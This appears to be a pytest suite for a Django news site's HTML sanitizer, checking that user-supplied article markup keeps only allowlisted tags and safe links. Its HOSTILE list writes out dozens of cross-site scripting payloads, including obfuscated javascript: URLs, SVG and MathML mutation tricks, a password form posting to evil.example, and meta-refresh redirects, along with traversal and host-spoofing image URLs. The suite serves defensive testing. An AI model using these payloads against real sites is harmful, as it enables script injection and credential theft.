"""articles.sanitizer.clean_html: what survives is the allowlist, and nothing runs."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.sanitizer import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, clean_html
from tests.factories import ArticleFactory, UserFactory

HOSTILE = [
    # script, in plain and broken-up forms
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<script type="module">import("https://evil.example")</script>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">cliquez</p>',
    '<a href="https://example.org" onmouseover="alert(1)">lien</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<p/onclick="alert(1)">x</p>',
    # javascript: in its disguises
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \t javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="JAVASCRIPT:alert(1)" alt="x">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    # svg / math / noscript mutation tricks
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # style
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # iframe / object / embed
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    # forms
    '<form action="https://evil.example"><input name="password" type="password"></form>',
    '<button formaction="javascript:alert(1)">Envoyer</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<select><option>x</option></select><textarea name="t"></textarea>',
    '<isindex action="javascript:alert(1)" type="image">',
    # page-level
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    # attributes that smuggle
    '<a href="https://example.org" target="_blank">x</a>',
    '<a href="https://example.org" rel="opener">x</a>',
    '<img src="https://example.org/a.png" srcset="javascript:alert(1) 1x">',
    '<p id="x" class="y" data-x="1" dir="rtl">x</p>',
    '<a href="https://example.org" formaction="javascript:alert(1)">x</a>',
]

SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# What browsers drop from a URL before reading its scheme: ASCII whitespace and controls.
URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")


class _Inventory(HTMLParser):
    """Every tag and attribute of the cleaned HTML, as a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_harmless(html):
    parser = _Inventory()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived: {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed, f"{name}= on <{tag}> survived: {html!r}"
            if name in ("href", "src"):
                url = URL_NOISE.sub("", value or "").lower()
                match = SCHEME.match(url)
                assert match is None or match.group(1) in ("http", "https", "mailto"), html
            if name == "rel":
                assert value == LINK_REL


FORBIDDEN_TAGS = ("script", "svg", "math", "style", "iframe", "object", "embed", "applet",
                  "form", "input", "button", "select", "textarea", "meta", "base", "link",
                  "noscript", "template", "xmp", "plaintext", "isindex", "body")  # fmt: skip
FORBIDDEN_IN_TAGS = re.compile(r"style\s*=|javascript|vbscript|data:|\son[a-z]+\s*=|srcdoc|xlink")


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_executable_survives(payload):
    cleaned = clean_html(payload)
    assert_harmless(cleaned)
    lowered = cleaned.lower()
    # Text is escaped, so a literal "<name" can only be a tag.
    for tag in FORBIDDEN_TAGS:
        assert f"<{tag}" not in lowered, cleaned
    inside_tags = " ".join(re.findall(r"<[^>]*>", lowered))
    assert not FORBIDDEN_IN_TAGS.search(inside_tags), cleaned


@pytest.mark.parametrize("payload", HOSTILE)
def test_cleaning_is_idempotent(payload):
    once = clean_html(payload)
    assert clean_html(once) == once


def test_mixed_corpus_in_one_body_is_idempotent_and_harmless():
    body = "<p>Début</p>" + "".join(HOSTILE) + "<p>Fin</p>"
    once = clean_html(body)
    assert_harmless(once)
    assert clean_html(once) == once
    assert once.startswith("<p>Début</p>")


def test_article_structure_is_kept():
    html = (
        "<h2>Intertitre</h2><p>Un <strong>texte</strong> avec <em>emphase</em>.</p>"
        '<ul><li>un</li><li>deux</li></ul><ol start="3"><li>trois</li></ol>'
        "<blockquote><p>Une citation.</p></blockquote><h3>Sous-titre</h3>"
        '<p><img src="https://example.org/photo.jpg" alt="Une photo"></p>'
    )
    assert clean_html(html) == html


def test_links_get_rel_and_keep_safe_schemes():
    cleaned = clean_html(
        '<p><a href="https://example.org/page">web</a> '
        '<a href="mailto:redaction@example.org">courriel</a> '
        '<a href="/categorie/sante/">rubrique</a></p>'
    )
    assert f'<a href="https://example.org/page" rel="{LINK_REL}">web</a>' in cleaned
    assert f'<a href="mailto:redaction@example.org" rel="{LINK_REL}">courriel</a>' in cleaned
    assert f'<a href="/categorie/sante/" rel="{LINK_REL}">rubrique</a>' in cleaned


def test_disallowed_scheme_link_keeps_its_text():
    assert clean_html('<p><a href="javascript:alert(1)">lire</a></p>') == (
        f'<p><a rel="{LINK_REL}">lire</a></p>'
    )


def test_text_that_looks_like_html_stays_text():
    cleaned = clean_html("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert cleaned == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_empty_and_none():
    assert clean_html("") == ""
    assert clean_html(None) == ""


@pytest.mark.django_db
def test_model_save_cleans_the_body():
    article = ArticleFactory(body='<p onclick="x">Texte</p><script>alert(1)</script>')
    article.refresh_from_db()
    assert article.body == "<p>Texte</p>"

    article.body = '<p>Suite <a href="javascript:alert(1)">lien</a></p><iframe src="x"></iframe>'
    article.save()
    article.refresh_from_db()
    assert article.body == f'<p>Suite <a rel="{LINK_REL}">lien</a></p>'


@pytest.mark.django_db
def test_article_page_shows_only_the_cleaned_body(client):
    article = ArticleFactory(body='<p>Bonjour</p><img src=x onerror="alert(1)"><svg onload=x>')
    html = client.get(article.get_absolute_url()).content.decode()
    assert "<p>Bonjour</p>" in html
    assert "onerror" not in html
    assert "<svg" not in html


def _admin_form_data(response):
    """The admin change form's current values, as the browser would post them back."""
    data = {}
    for bound in response.context["adminform"].form:
        value = bound.value()
        if value is None or getattr(bound.field.widget, "input_type", None) == "file":
            continue
        if isinstance(value, bool):
            if value:
                data[bound.html_name] = "on"
            continue
        data[bound.html_name] = [str(v) for v in value] if isinstance(value, list) else value
    for formset in response.context["inline_admin_formsets"]:
        management = formset.formset.management_form
        data.update({f.html_name: f.value() for f in management})
    return data


@pytest.mark.django_db
def test_admin_save_cleans_the_body(client):
    article = ArticleFactory()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    url = reverse("admin:articles_article_change", args=[article.pk])
    data = _admin_form_data(client.get(url))
    data["body"] = '<p>Modifié <a href="jav&#x09;ascript:alert(1)">ici</a></p><script>x</script>'
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    article.refresh_from_db()
    assert article.body == f'<p>Modifié <a rel="{LINK_REL}">ici</a></p>'


# Images that are pages of ours would count a view of that page per reader (issue 9).

OWN_PAGE_IMAGES = [
    "/articles/une-autre-histoire/",
    "articles/une-autre-histoire/",
    "?page=2",
    "https://www.notrecontinent.com/articles/une-autre-histoire/",
    "HTTPS://WWW.NotreContinent.COM./articles/x/",
    "//www.notrecontinent.com/articles/x/",
    "https://lecteur@www.notrecontinent.com:443/articles/x/",
    "https://fr.notrecontinent.com/articles/x/",
    "/media/../articles/x/",
    "/media/%2e%2e/articles/x/",
    "/static/..%2Farticles/x/",
    "\\articles\\x\\",
    "/%61rticles/x/",
    "&#x2F;articles/x/",
    "http://www%2enotrecontinent%2ecom/articles/x/",
    "http://www.ｎotrecontinent.com/articles/x/",
    "http://WWW.NOTRECONTINENT.COM/articles/x/",
]


@pytest.mark.parametrize("src", OWN_PAGE_IMAGES)
def test_an_image_that_is_one_of_our_pages_is_dropped(settings, src):
    settings.ALLOWED_HOSTS = ["www.notrecontinent.com", ".notrecontinent.com"]
    cleaned = clean_html(f'<p>Avant<img src="{src}" alt="piège">après</p>')
    assert cleaned == "<p>Avantaprès</p>"


@pytest.mark.parametrize(
    "src",
    [
        "/media/articles/covers/photo.webp",
        "https://www.notrecontinent.com/media/articles/covers/photo.webp",
        "/static/img/logo.svg",
        "https://images.example.org/articles/x/",
        "https://notrecontinent.com.example.org/articles/x/",
    ],
)
def test_our_files_and_other_sites_images_are_kept(settings, src):
    settings.ALLOWED_HOSTS = ["www.notrecontinent.com"]
    cleaned = clean_html(f'<p><img src="{src}" alt="photo"></p>')
    assert cleaned == f'<p><img src="{src}" alt="photo"></p>'


def test_an_alt_text_cannot_keep_an_image_without_source(settings):
    settings.ALLOWED_HOSTS = ["www.notrecontinent.com"]
    cleaned = clean_html('<img alt=\' src="x.png"\' src="/articles/x/">')
    assert "<img" not in cleaned
